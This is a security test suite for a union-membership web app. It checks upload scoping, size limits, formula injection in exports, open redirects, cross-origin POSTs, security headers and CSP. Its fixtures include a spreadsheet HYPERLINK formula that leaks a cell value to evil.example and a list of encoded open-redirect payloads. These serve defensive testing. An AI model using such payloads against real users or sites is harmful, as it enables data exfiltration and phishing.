// The attacks of issue #11 against the real build, over HTTP and in Chromium: uploads by a scoped
// account (per-row scope, the org re-parenting attack), upload size limit, open redirects, GETs with
// side effects, cross-origin POSTs, security headers, and the pages under their CSP.
import { request as httpRequest } from 'node:http';
import ExcelJS from 'exceljs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launch, open, chartsReady, type Watched } from './browser.ts';
import { listAudit } from '../../src/lib/auditor/audit-log.ts';
import { signIn, TEST_PASSWORD, type TestSession } from '../auth/sign-in.ts';

const base = inject('baseURL');
const dbPath = inject('dbPath');
const s: Record<string, TestSession> = {};

beforeAll(async () => {
  for (const [key, role, org] of [
    ['staff@S1', 'staff', 'S1'], ['leader@S1', 'leader', 'S1'], ['staff', 'staff', null], ['auditor', 'auditor', null], ['admin', 'admin', null],
  ] as const) {
    s[key] = await signIn(dbPath, role, org, `sec-${key.replace('@', '-')}`);
  }
});

function form(files: Record<string, string>): FormData {
  const f = new FormData();
  for (const [name, text] of Object.entries(files)) f.append('files', new Blob([text], { type: 'text/csv' }), name);
  return f;
}
const post = (path: string, who: TestSession | null, body: BodyInit, headers: Record<string, string> = {}) =>
  fetch(base + path, { method: 'POST', redirect: 'manual', headers: { origin: base, ...(who ? { cookie: who.header } : {}), ...headers }, body });

describe('uploads by an account limited to S1, through the server', () => {
  it('load the rows inside S1, quarantine the rest per row; another street cannot be moved in', async () => {
    const res = await post('/upload', s['staff@S1']!, form({
      'orgs.csv': '组织代码,组织名称,上级组织代码,组织类型\nS2,西城街道工会联合会,S1,street_federation\nS1C7,东城第七社区工会,S1,community_union\n',
      'members.csv': '会员编号,姓名,身份证号,所属工会,入会日期\nSEC1,甲,110101199001011237,S1C1,2024-01-01\nSEC2,乙,110101199001021233,S2C1,2024-01-01\n',
    }));
    expect(res.status).toBe(200);
    const html = await res.text();
    const cells = (file: string) => [...new RegExp(`<tr[^>]*data-file="${file}"[^>]*>([\\s\\S]*?)</tr>`).exec(html)![1]!.matchAll(/<td[^>]*>([\s\S]*?)<\/td>/g)].map((m) => m[1]!.replace(/<[^>]+>/g, '').trim());
    // read, loaded, quarantined: S2 re-parented under S1 is refused, the new community loads
    expect(cells('orgs.csv').slice(2, 5)).toEqual(['2', '1', '1']);
    expect(cells('members.csv').slice(2, 5)).toEqual(['2', '1', '1']);
    expect(html).toContain('已由您管辖范围以外的组织登记');
    expect(html).toContain('「所属工会」“S2C1”不在您的管辖范围（S1 及其下级组织）内');
    // the S1 leader still cannot read the other street
    expect((await fetch(`${base}/org/S2/2024`, { redirect: 'manual', headers: { cookie: s['leader@S1']!.header } })).status).toBe(403);
    // nor can the S1 clerk open the setup's batch (#1, loaded from the command line, not by an
    // account of S1) on the quality page by its number: the page says so and shows their own
    const q = await (await fetch(`${base}/quality?batch=1`, { headers: { cookie: s['staff@S1']!.header } })).text();
    expect(q).toContain('没有批次 #1，或不是您范围内的账户上传的');
    expect(q).not.toMatch(/本批次的文件 · #1</);
  });

  it('refuses an upload over the size limit before reading it, with a message', async () => {
    const { status, body } = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = httpRequest(`${base}/upload`, {
        method: 'POST',
        headers: { origin: base, cookie: s.staff!.header, 'content-type': 'multipart/form-data; boundary=x', 'content-length': String(300 * 1024 * 1024) },
      });
      req.on('response', (r) => {
        let b = '';
        r.on('data', (d) => (b += d));
        r.on('end', () => resolve({ status: r.statusCode!, body: b }));
      });
      req.on('error', reject);
      req.write('--x\r\n'); // the rest never comes: the server must answer without waiting for it
    });
    expect(status).toBe(413);
    expect(body).toContain('文件过大（合计超过 200 MB），未导入任何数据');
  });

  it('never lets an auditor upload', async () => {
    const res = await post('/upload', s.auditor!, form({ 'members.csv': '会员编号,姓名\nA,b\n' }));
    expect(res.status).toBe(403);
    expect(await res.text()).toContain('needs the staff role; your account sec-auditor is auditor');
  });
});

describe('downloads never carry a formula', () => {
  const LEAK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看")';
  async function xlsxCells(res: Response): Promise<{ text: string[]; formulas: number }> {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
    const text: string[] = [];
    let formulas = 0;
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => {
      if (c.type === ExcelJS.ValueType.Formula) formulas++;
      text.push(String(c.value));
    }));
    return { text, formulas };
  }

  it('the reject report of an upload whose org is named like a formula', async () => {
    const up = await post('/upload', s.staff!, form({ 'orgs.csv': `组织代码,组织名称,上级组织代码,组织类型\nSECX,"${LEAK.replace(/"/g, '""')}",S1,no_such_type\n` }));
    const batch = /data-batch="(\d+)"/.exec(await up.text())![1];
    const { text, formulas } = await xlsxCells(await fetch(`${base}/upload/reject/${batch}.xlsx`, { headers: { cookie: s.staff!.header } }));
    expect(formulas).toBe(0);
    expect(text).toContain(`'${LEAK}`);
    expect(text).not.toContain(LEAK);
  });

  it('the chart table xlsx and the auditor’s CSV export', async () => {
    const x = await post('/api/xlsx', s.staff!, JSON.stringify({ filename: 't', sheet: 's', table: { columns: ['组织', '数'], rows: [[LEAK, '1,211']] } }), { 'content-type': 'application/json' });
    const { text, formulas } = await xlsxCells(x);
    expect(formulas).toBe(0);
    expect(text).toEqual(['组织', '数', `'${LEAK}`, '1211']);
    const csv = await post('/api/audit/export', s.auditor!, JSON.stringify({ sql: `select '${LEAK.replace(/'/g, "''")}' as org, -5 as n`, format: 'csv' }), { 'content-type': 'application/json' });
    // (Response.text() drops the BOM)
    expect(await csv.text()).toBe(`org,n\r\n"'${LEAK.replace(/"/g, '""')}",-5\r\n`);
  });
});

describe('redirects stay on the site', () => {
  const BAD = ['/%09/127.0.0.1:5299/phish', '//evil.example/', '/\\evil.example', '%2F%2Fevil.example', 'https://evil.example/', '/%0d%0a/evil.example', '/%5Cevil.example'];

  it.each(BAD)('sign-in with next=%s', async (next) => {
    const res = await post(`/login?next=${next}`, null, new URLSearchParams({ username: 'sec-staff', password: TEST_PASSWORD, next: decodeURIComponent(next) }), {
      'content-type': 'application/x-www-form-urlencoded',
    });
    expect(res.status).toBe(303);
    const loc = res.headers.get('location')!;
    expect(new URL(loc, base).origin).toBe(base);
    expect(loc).not.toMatch(/^\/\/|^\/\\|[\t\r\n]/);
  });

  it.each(BAD)('language switch with back=%s', async (back) => {
    const res = await fetch(`${base}/lang?to=en&back=${back}`, { redirect: 'manual' });
    expect(res.status).toBe(303);
    expect(new URL(res.headers.get('location')!, base).origin).toBe(base);
  });

  it('still follows a local next= after sign-in', async () => {
    const res = await post('/login', null, new URLSearchParams({ username: 'sec-staff', password: TEST_PASSWORD, next: '/org/S1/2024?x=1' }), {
      'content-type': 'application/x-www-form-urlencoded',
    });
    expect(res.headers.get('location')).toBe('/org/S1/2024?x=1');
  });
});

describe('state changes need a POST from this site', () => {
  it('GET /logout (an <img src=/logout>) does not sign anyone out', async () => {
    const who = await signIn(dbPath, 'leader', null, 'sec-img');
    expect((await fetch(`${base}/logout`, { headers: { cookie: who.header } })).status).toBe(200);
    expect((await fetch(`${base}/org/F0/2024`, { redirect: 'manual', headers: { cookie: who.header } })).status).toBe(200);
    expect((await post('/logout', who, '')).status).toBe(303);
    expect((await fetch(`${base}/org/F0/2024`, { redirect: 'manual', headers: { cookie: who.header } })).status).toBe(303);
  });

  it('an unmasked lineage never runs from a GET; the POST runs and is logged unmasked', async () => {
    const before = (await listAudit(dbPath, { user: 'sec-auditor', limit: 1000 })).length;
    const q = 'key=coverage.members&org=S1&year=2024';
    const get = await fetch(`${base}/api/audit/lineage?${q}&unmask=1`, { headers: { cookie: s.auditor!.header } });
    expect(get.status).toBe(405);
    expect((await listAudit(dbPath, { user: 'sec-auditor', limit: 1000 })).length).toBe(before);
    const ok = await post('/api/audit/lineage', s.auditor!, JSON.stringify({ key: 'coverage.members', org: 'S1', year: 2024, unmask: true }), { 'content-type': 'application/json' });
    expect(ok.status).toBe(200);
    const logged = await listAudit(dbPath, { user: 'sec-auditor', limit: 1000 });
    expect(logged.length).toBeGreaterThan(before);
    expect(logged[0]!.masked).toBe(false);
  });

  it('refuses POSTs from another origin, even same-site (another port) and even as JSON', async () => {
    for (const origin of ['http://127.0.0.1:5299', 'http://evil.example', 'null']) {
      const res = await fetch(`${base}/api/audit/query`, {
        method: 'POST',
        headers: { origin, cookie: s.auditor!.header, 'content-type': 'application/json' },
        body: JSON.stringify({ sql: 'select 1' }),
      });
      expect(res.status, origin).toBe(403);
    }
    const res = await fetch(`${base}/logout`, { method: 'POST', redirect: 'manual', headers: { cookie: s.staff!.header, 'sec-fetch-site': 'same-site' } });
    expect(res.status).toBe(403);
  });
});

describe('security headers', () => {
  it.each([
    ['/login', null],
    ['/org/F0/2024', 'staff'],
    ['/api/indicators?org=F0&year=2024', 'staff'],
    ['/audit', 'staff'], // a 403 page
    ['/', null], // a redirect
    ['/upload/templates/members.xlsx', 'staff'],
  ])('on %s', async (path, who) => {
    const res = await fetch(base + path, { redirect: 'manual', headers: who ? { cookie: s[who]!.header } : {} });
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('same-origin');
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    const csp = res.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(/frame-ancestors 'none'/);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
  });

  it('pages allow no inline <style> but their own (hashes; a nonce for the console), only style attributes', async () => {
    for (const [path, who] of [['/login', null], ['/org/F0/2024', 'staff'], ['/audit', 'auditor']] as const) {
      const res = await fetch(base + path, { headers: who ? { cookie: s[who]!.header } : {} });
      const csp = res.headers.get('content-security-policy') ?? '';
      const styleSrc = /(?:^|;\s*)style-src ([^;]*)/.exec(csp)?.[1] ?? '';
      expect(styleSrc, path).toMatch(/'sha256-/);
      expect(styleSrc, path).not.toMatch(/'unsafe-inline'/);
      expect(csp, path).toMatch(/style-src-attr 'unsafe-inline'/);
      if (path === '/audit') {
        // the nonce in the header is the one handed to CodeMirror in the page, and new per response
        const nonce = /'nonce-([^']+)'/.exec(styleSrc)?.[1];
        expect(nonce, path).toBeTruthy();
        expect(await res.text()).toContain(nonce!);
        const again = await fetch(base + path, { headers: { cookie: s[who!]!.header } });
        expect(again.headers.get('content-security-policy')).not.toContain(nonce!);
      }
    }
  });

  it('on the static files the adapter serves itself (never through the middleware)', async () => {
    // the CSS and JS a real page links to, and one missing file (answered by the app's 404)
    const html = await (await fetch(`${base}/org/F0/2024`, { headers: { cookie: s.staff!.header } })).text();
    const assets = [...new Set([...html.matchAll(/\/_astro\/[\w.-]+\.(?:css|js)\b/g)].map((m) => m[0]))];
    expect(assets.some((a) => a.endsWith('.css')) && assets.some((a) => a.endsWith('.js'))).toBe(true);
    for (const path of [...assets, '/favicon.ico', '/_astro/missing.js']) {
      const res = await fetch(base + path);
      await res.arrayBuffer();
      expect(res.status, path).toBe(path.includes('missing') || path.includes('favicon') ? 404 : 200);
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('referrer-policy'), path).toBe('same-origin');
      expect(res.headers.get('content-security-policy'), path).toMatch(/frame-ancestors 'none'/);
    }
  });
});

describe('the pages work under their CSP', () => {
  let browser: Browser;
  const watched: Watched[] = [];
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(async () => browser?.close());

  it.each([
    ['staff', ['/org/F0/2024', '/org/F0/2024/coverage', '/org/F0/2024/relief', '/org/S1/2024/training', '/quality', '/upload']],
    ['auditor', ['/audit', '/audit/log', '/audit/lineage?key=coverage.members&org=S1&year=2024']],
    ['admin', ['/admin']],
  ] as const)('as %s: no console errors, no CSP violations, charts draw', async (who, paths) => {
    const w = await open(browser, { session: s[who]!.token, baseURL: base });
    watched.push(w);
    await w.page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
    });
    for (const path of paths) {
      await w.page.goto(base + path);
      await chartsReady(w.page);
      await w.page.waitForLoadState('networkidle');
    }
    if (who === 'auditor') {
      await w.page.goto(`${base}/audit`);
      await w.page.waitForSelector('[data-console-ready=true]');
    }
    expect(w.errors).toEqual([]);
  }, 240_000);
});
